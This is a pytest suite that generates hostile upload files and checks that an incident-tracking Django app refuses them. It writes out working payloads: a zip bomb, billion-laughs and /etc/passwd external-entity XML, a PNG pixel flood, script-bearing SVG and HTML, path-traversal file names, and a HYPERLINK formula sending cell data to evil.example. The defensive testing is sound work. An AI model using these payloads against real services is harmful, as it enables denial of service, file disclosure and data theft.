"""Hostile files against every upload path: imports (CSV, XLSX, GeoJSON; on the page and in
a real Celery worker), photos, boundary files and the JSON API body. The corpus is made
here, by the tests. Each file gets an error that names its problem, no row is written, the
worker survives it, and the worker's memory stays under 512 MiB."""

import csv
import io
import json
import struct
import time
import zipfile
import zlib
from pathlib import Path

import pytest
from django.core.exceptions import ValidationError
from django.core.files.base import ContentFile
from django.core.files.uploadedfile import SimpleUploadedFile
from openpyxl import Workbook
from PIL import Image

from geo.core.boundaries import BoundaryFileError, admin_areas_load, countries_load
from geo.models import AdminArea
from incidents import services
from incidents.imports.importer import incidents_import
from incidents.models import ImportJob, Incident, Photo, WeaponItem
from organisations.models import AuditEvent
from tests.conftest import start_celery_worker, stop_celery_worker
from tests.personas import build_world
from tests.waiting import SAFETY_SECONDS, wait_for

HEADER = ["external_reference", "occurred_at", "latitude", "longitude", "kind", "context"]
ROW = ["H-1", "2025-06-01", "4.39", "18.55", "cache_discovery", "other"]
WORKER_MEMORY_LIMIT = 512 * 1024**2


# --- the corpus ----------------------------------------------------------------------


def clean_csv(rows=(ROW,), header=HEADER) -> bytes:
    text = io.StringIO()
    writer = csv.writer(text)
    writer.writerow(header)
    writer.writerows(rows)
    return text.getvalue().encode()


def clean_xlsx() -> bytes:
    workbook = Workbook()
    workbook.active.append(HEADER)
    workbook.active.append(ROW)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def xlsx_with_sheet(sheet_xml: bytes) -> bytes:
    """A real workbook whose first sheet is replaced by `sheet_xml`."""
    source = zipfile.ZipFile(io.BytesIO(clean_xlsx()))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as target:
        for entry in source.infolist():
            content = source.read(entry.filename)
            if entry.filename == "xl/worksheets/sheet1.xml":
                content = sheet_xml
            target.writestr(entry.filename, content)
    return buffer.getvalue()


SHEET_START = b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'


def zip_bomb_xlsx() -> bytes:
    """A sheet that inflates from about 1 MB to 1 GiB of blank space."""
    buffer = io.BytesIO()
    source = zipfile.ZipFile(io.BytesIO(clean_xlsx()))
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as target:
        for entry in source.infolist():
            if entry.filename != "xl/worksheets/sheet1.xml":
                target.writestr(entry.filename, source.read(entry.filename))
        with target.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as sheet:
            sheet.write(SHEET_START + b"<sheetData>")
            blank = b" " * (1 << 24)
            for _ in range(64):
                sheet.write(blank)
            sheet.write(b"</sheetData></worksheet>")
    return buffer.getvalue()


def many_parts_xlsx() -> bytes:
    buffer = io.BytesIO(clean_xlsx())
    with zipfile.ZipFile(buffer, "a") as archive:
        for index in range(5_000):
            archive.writestr(f"xl/media/part{index}.bin", b"x")
    return buffer.getvalue()


def billion_laughs_xlsx() -> bytes:
    entities = b'<!ENTITY lol0 "lol">' + b"".join(
        b'<!ENTITY lol%d "%s">' % (level, b"&lol%d;" % (level - 1) * 10) for level in range(1, 10)
    )
    return xlsx_with_sheet(
        b'<?xml version="1.0"?><!DOCTYPE worksheet ['
        + entities
        + b"]>"
        + SHEET_START
        + b'<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>&lol9;</t></is></c></row>'
        b"</sheetData></worksheet>"
    )


def external_entity_xlsx() -> bytes:
    return xlsx_with_sheet(
        b'<?xml version="1.0"?><!DOCTYPE worksheet [<!ENTITY secret SYSTEM '
        b'"file:///etc/passwd">]>'
        + SHEET_START
        + b'<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>&secret;</t></is></c></row>'
        b"</sheetData></worksheet>"
    )


def deeply_nested_geojson() -> bytes:
    return b'{"type": "FeatureCollection", "features": ' + b"[" * 100_000 + b"]" * 100_000 + b"}"


def largest_geojson_without_a_point() -> bytes:
    """Just under the GeoJSON limit (24 MB): some 100,000 features, each with a line where
    a point should be. Parsed whole, staged and checked, then refused row by row."""
    features, size, number = [], 0, 0
    while size < 23 * 1024**2:
        feature = json.dumps(
            {
                "type": "Feature",
                "geometry": {"type": "LineString", "coordinates": [[18.5, 4.3], [18.6, 4.4]]},
                "properties": {
                    "external_reference": f"BIG-{number:07d}",
                    "occurred_at": "2025-02-01",
                    "kind": "cache_discovery",
                    "context": "other",
                },
            }
        )
        features.append(feature)
        size += len(feature) + 1
        number += 1
    return ('{"type": "FeatureCollection", "features": [' + ",".join(features) + "]}").encode()


def oversized_geojson() -> bytes:
    return b'{"type": "FeatureCollection", "features": []' + b" " * (25 * 1024**2) + b"}"


IMPORT_CORPUS = {
    # name: (format, content, what the error says)
    "zip bomb (1 GiB sheet in 1 MB)": ("xlsx", zip_bomb_xlsx, "zip bomb"),
    "XLSX of 5,000 parts": ("xlsx", many_parts_xlsx, "refusing more than 1000"),
    "billion laughs in an XLSX sheet": ("xlsx", billion_laughs_xlsx, "declares entities"),
    "external entity in an XLSX sheet": ("xlsx", external_entity_xlsx, "declares entities"),
    "truncated XLSX": ("xlsx", lambda: clean_xlsx()[:1500], "not a complete XLSX"),
    "CSV posing as XLSX": ("xlsx", clean_csv, "an XLSX is a ZIP container"),
    "deeply nested GeoJSON": ("geojson", deeply_nested_geojson, "nests arrays or objects"),
    "truncated GeoJSON": ("geojson", lambda: b'{"type": "FeatureCollection", "feat', "not valid"),
    "GeoJSON over its size limit": ("geojson", oversized_geojson, "the limit for GEOJSON"),
    "NUL byte in a CSV": ("csv", lambda: clean_csv([["H-\x001", *ROW[1:]]]), "NUL byte (line 2"),
    "truncated CSV": ("csv", lambda: clean_csv() + b'H-2,2025-01-01,"4.3', "cut short"),
    "PNG posing as CSV": ("csv", lambda: png_bytes(), "binary file"),
    "empty file": ("csv", lambda: b"", "empty"),
}


def png_bytes(size=(40, 30)) -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", size, "olive").save(buffer, format="PNG")
    return buffer.getvalue()


def pixel_flood_png(width=50_000, height=50_000) -> bytes:
    """A PNG that declares 2.5 billion pixels in a few hundred bytes."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        body = kind + data
        return struct.pack(">I", len(data)) + body + struct.pack(">I", zlib.crc32(body))

    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    rows = zlib.compress(b"\0" * (1 + width // 8) * 16)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")
    )


SVG = (
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">'
    b"<script>alert(document.cookie)</script></svg>"
)

PHOTO_CORPUS = {
    "pixel flood (50,000 x 50,000 PNG)": (pixel_flood_png, "more than 40 million pixels"),
    "SVG posing as PNG": (lambda: SVG, "not an image"),
    "HTML posing as JPEG": (lambda: b"<html><script>alert(1)</script></html>", "not an image"),
    "truncated PNG": (lambda: png_bytes((400, 300))[:200], "not an image"),
    "GIF": (lambda: gif_bytes(), "GIF images are not accepted"),
    "NUL bytes": (lambda: b"\0" * 4096, "not an image"),
}


def gif_bytes() -> bytes:
    buffer = io.BytesIO()
    Image.new("P", (10, 10)).save(buffer, format="GIF")
    return buffer.getvalue()


# --- imports -------------------------------------------------------------------------


pytestmark = pytest.mark.usefixtures("countries_110m")  # before `world`: its records fall in them


def record_counts() -> tuple[int, int, int]:
    return Incident.objects.count(), WeaponItem.objects.count(), AuditEvent.objects.count()


@pytest.mark.parametrize("name", IMPORT_CORPUS)
def test_each_hostile_import_file_is_refused_naming_its_problem_and_writes_nothing(world, name):
    file_format, content, says = IMPORT_CORPUS[name]
    before = record_counts()
    # This process's CPU time, not the clock's: what a hostile file must not cost is work,
    # and a machine busy with other processes stretches the clock, not the work.
    started = time.process_time()

    report = incidents_import(
        upload=io.BytesIO(content()),
        file_format=file_format,
        contingent=world.records["alpha_draft_L1"].contingent,
        by=world.users["reporter_alpha"],
    )

    assert says in report.file_error, report.file_error
    assert not report.ok
    assert record_counts() == before
    assert time.process_time() - started < 30


@pytest.mark.parametrize(
    ("name", "filename"),
    [
        ("CSV posing as XLSX", "records.xlsx"),
        ("PNG posing as CSV", "records.csv"),
        ("NUL byte in a CSV", "records.csv"),
        ("GeoJSON over its size limit", "records.geojson"),
    ],
)
def test_the_import_page_refuses_by_content_before_any_job_is_kept(client, world, name, filename):
    _format, content, says = IMPORT_CORPUS[name]
    client.force_login(world.users["reporter_alpha"])

    response = client.post(
        "/incidents/import/",
        {
            "file": SimpleUploadedFile(filename, content()),
            "contingent": world.records["alpha_draft_L1"].contingent_id,
        },
    )

    assert response.status_code == 200
    assert says in " ".join(response.context["form"].errors["file"])
    assert not ImportJob.objects.exists()
    assert not Incident.objects.filter(external_reference="H-1").exists()


def test_an_upload_name_with_folders_and_control_characters_is_cleaned(client, world):
    client.force_login(world.users["reporter_alpha"])
    upload = SimpleUploadedFile("../../../etc/cron.d/re\x07cords\x1b.csv", clean_csv())

    client.post(
        "/incidents/import/",
        {"file": upload, "contingent": world.records["alpha_draft_L1"].contingent_id},
    )

    job = ImportJob.objects.get()
    assert job.original_name == "records.csv"
    assert job.file.name.startswith("imports/") and ".." not in job.file.name
    assert job.state == ImportJob.State.DONE


def test_a_formula_in_an_imported_cell_is_kept_as_text_and_exported_defused(client, world):
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    report = incidents_import(
        upload=io.BytesIO(clean_csv([[formula, *ROW[1:]]])),
        file_format="csv",
        contingent=world.records["alpha_draft_L1"].contingent,
        by=world.users["reporter_alpha"],
    )
    assert report.ok, report.as_dict()
    assert Incident.objects.filter(external_reference=formula).count() == 1

    client.force_login(world.users["reporter_alpha"])
    response = client.get("/api/v1/incidents/export.csv", {"state": "draft"})
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert "'" + formula in [row["external_reference"] for row in rows]


# --- the worker ----------------------------------------------------------------------


def _peak_memory(pid: int) -> int:
    """The process's peak resident memory (VmHWM), in bytes."""
    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
        if line.startswith("VmHWM:"):
            return int(line.split()[1]) * 1024
    raise AssertionError("no VmHWM")


@pytest.mark.django_db(transaction=True)
def test_a_real_worker_refuses_the_whole_corpus_survives_and_stays_under_512_mib(capsys):
    from armsmonitor.celery import app as celery_app
    from incidents.tasks import run_import_job

    countries_load(scale="110m")
    world = build_world()
    worker = start_celery_worker("hostile")
    try:
        baseline = _peak_memory(worker.pid)
        jobs = {}
        for name, (file_format, content, _says) in IMPORT_CORPUS.items():
            job = ImportJob(
                file_format=file_format,
                original_name=name,
                contingent=world.records["alpha_draft_L1"].contingent,
                requested_by=world.users["reporter_alpha"],
            )
            job.file.save(f"import.{file_format}", ContentFile(content()), save=False)
            job.save()
            jobs[name] = job
            run_import_job.delay(job.pk)
        largest = ImportJob(
            file_format="geojson",
            original_name="largest GeoJSON allowed, no feature a point",
            contingent=world.records["alpha_draft_L1"].contingent,
            requested_by=world.users["reporter_alpha"],
        )
        largest.file.save(
            "import.geojson", ContentFile(largest_geojson_without_a_point()), save=False
        )
        largest.save()
        run_import_job.delay(largest.pk)
        deadline = time.monotonic() + SAFETY_SECONDS
        while ImportJob.objects.exclude(
            state__in=[ImportJob.State.REFUSED, ImportJob.State.DONE, ImportJob.State.FAILED]
        ).exists():
            assert worker.poll() is None, "the worker died"
            assert time.monotonic() < deadline, "an import hangs"
            time.sleep(0.5)
        peak = _peak_memory(worker.pid)
        assert worker.poll() is None, "the worker died"
        alive = wait_for(
            lambda: any(
                "hostile" in name for reply in celery_app.control.ping(timeout=1) for name in reply
            ),
            what="the worker to answer a ping",
        )
    finally:
        stop_celery_worker(worker)

    outcomes = {}
    for name, job in jobs.items():
        job.refresh_from_db()
        outcomes[name] = (job.state, job.report.get("file_error", ""))
    with capsys.disabled():
        print(
            f"\nworker peak memory: before {baseline / 1024**2:.0f} MiB, "
            f"after the corpus {peak / 1024**2:.0f} MiB"
        )
        for name, (state, error) in outcomes.items():
            print(f"  {name}: {state}: {error}")
    largest.refresh_from_db()
    with capsys.disabled():
        print(
            f"  {largest.original_name} ({largest.file.size / 1024**2:.1f} MB): "
            f"{largest.state}: {largest.report['problem_count']} problems, "
            f"first: {largest.report['problems'][0]}"
        )
    for name, (state, error) in outcomes.items():
        assert state == ImportJob.State.REFUSED, (name, state)
        assert IMPORT_CORPUS[name][2] in error, (name, error)
    assert largest.state == ImportJob.State.REFUSED
    assert largest.report["problem_count"] == largest.report["rows"] > 90_000
    assert not Incident.objects.filter(external_reference__startswith="BIG-").exists()
    assert Incident.objects.filter(external_reference="H-1").count() == 0
    assert alive
    assert peak < WORKER_MEMORY_LIMIT


# --- photos --------------------------------------------------------------------------


@pytest.mark.parametrize("name", PHOTO_CORPUS)
def test_each_hostile_photo_is_refused_naming_its_problem(world, name):
    content, says = PHOTO_CORPUS[name]
    started = time.process_time()  # CPU time: as for the import files above

    with pytest.raises(ValidationError) as refusal:
        services.photo_attach(
            incident=world.records["alpha_draft_L1"],
            by=world.users["reporter_alpha"],
            upload=SimpleUploadedFile("seized.png", content(), content_type="image/png"),
        )

    assert says in " ".join(refusal.value.messages)
    assert not Photo.objects.exists()
    assert time.process_time() - started < 10


def test_the_photo_page_reports_a_pixel_flood_and_keeps_nothing(client, world):
    incident = world.records["alpha_draft_L1"]
    client.force_login(world.users["reporter_alpha"])
    response = client.post(
        f"/incidents/{incident.pk}/photos",
        {"image": SimpleUploadedFile("flood.png", pixel_flood_png())},
        follow=True,
    )
    assert "more than 40 million pixels" in response.content.decode()
    assert not Photo.objects.exists()


def test_a_photo_with_html_hidden_after_it_is_reencoded_and_served_as_an_attachment(client, world):
    incident = world.records["alpha_draft_L1"]
    content = png_bytes() + b"<html><script>alert(1)</script></html>"
    photo = services.photo_attach(
        incident=incident,
        by=world.users["reporter_alpha"],
        upload=SimpleUploadedFile("..\\..\\evil\x00.html.png", content),
    )
    assert photo.original_name == "evil.html.png"
    assert photo.image.name.endswith(".png") and ".." not in photo.image.name
    stored = photo.image.read()
    assert b"<script" not in stored and stored.startswith(b"\x89PNG")

    client.force_login(world.users["reporter_alpha"])
    response = client.get(f"/incidents/photos/{photo.pk}")
    assert response["Content-Type"] == "image/png"
    assert response["Content-Disposition"].startswith("attachment;")
    assert response["X-Content-Type-Options"] == "nosniff"


# --- boundary files ------------------------------------------------------------------

KML_WITH_ENTITY = (
    b'<?xml version="1.0"?><!DOCTYPE kml [<!ENTITY secret SYSTEM "file:///etc/passwd">]>'
    b'<kml xmlns="http://www.opengis.net/kml/2.2"><Placemark><name>&secret;</name>'
    b"</Placemark></kml>"
)
AREA = {
    "type": "FeatureCollection",
    "features": [
        {
            "type": "Feature",
            "properties": {"shapeName": "Bangui"},
            "geometry": {
                "type": "Polygon",
                "coordinates": [[[18.4, 4.3], [18.7, 4.3], [18.7, 4.5], [18.4, 4.5], [18.4, 4.3]]],
            },
        }
    ],
}
BOUNDARY_CORPUS = {
    "KML with an external entity": (KML_WITH_ENTITY, "is not a GeoJSON, TopoJSON"),
    "PNG posing as GeoJSON": (png_bytes(), "is not a GeoJSON, TopoJSON"),
    "deeply nested GeoJSON": (deeply_nested_geojson(), "Cannot read"),
    "truncated GeoJSON": (json.dumps(AREA).encode()[:120], "Cannot read"),
    "NUL bytes in GeoJSON": (json.dumps(AREA).encode().replace(b"Bangui", b"Ban\0gui"), "NUL"),
}


@pytest.mark.parametrize("name", BOUNDARY_CORPUS)
def test_each_hostile_boundary_file_is_refused_and_loads_nothing(world, tmp_path, name):
    content, says = BOUNDARY_CORPUS[name]
    path = tmp_path / "areas.geojson"
    path.write_bytes(content)

    with pytest.raises(BoundaryFileError, match=says):
        admin_areas_load(path=path, level=1, name_field="shapeName", country="CAF")

    assert not AdminArea.objects.exists()


def test_a_boundary_file_over_the_size_limit_is_refused_before_gdal_reads_it(
    world, tmp_path, monkeypatch
):
    import geo.core.boundaries

    path = tmp_path / "areas.geojson"
    path.write_bytes(json.dumps(AREA).encode())
    monkeypatch.setattr(geo.core.boundaries, "BOUNDARY_MAX_BYTES", 100)
    with pytest.raises(BoundaryFileError, match="the limit is"):
        admin_areas_load(path=path, level=1, name_field="shapeName", country="CAF")
    assert not AdminArea.objects.exists()


def test_a_clean_boundary_file_still_loads(world, tmp_path):
    path = tmp_path / "areas.geojson"
    path.write_bytes(json.dumps(AREA).encode())
    report = admin_areas_load(path=path, level=1, name_field="shapeName", country="CAF")
    assert report.loaded == 1


# --- the JSON API body ---------------------------------------------------------------


def api_post(client, world, content: bytes | str):
    client.force_login(world.users["reporter_alpha"])
    return client.post(
        "/api/v1/incidents",
        content,
        content_type="application/json",
        HTTP_IDEMPOTENCY_KEY="hostile-1",
    )


def test_a_deeply_nested_json_body_is_refused_with_400(client, world):
    response = api_post(client, world, b"[" * 100_000 + b"]" * 100_000)
    assert response.status_code == 400
    assert "nest" in response.json()["detail"]
    assert Incident.objects.count() == len(world.records)


def test_a_truncated_json_body_is_refused_with_400(client, world):
    response = api_post(client, world, b'{"kind": "cache_disc')
    assert response.status_code == 400
    assert "JSON parse error" in response.json()["detail"]


def test_a_nul_character_in_a_json_field_is_refused_naming_the_field(client, world):
    data = {
        "contingent": world.records["alpha_draft_L1"].contingent_id,
        "kind": "checkpoint_seizure",
        "occurred_at": "2026-03-01T08:00:00Z",
        "coordinates": "4.394, 18.558",
        "context": "criminal",
        "narrative": "two rifles\u0000",
    }
    response = api_post(client, world, json.dumps(data))
    assert response.status_code == 400
    assert "narrative" in response.json()
    assert Incident.objects.count() == len(world.records)
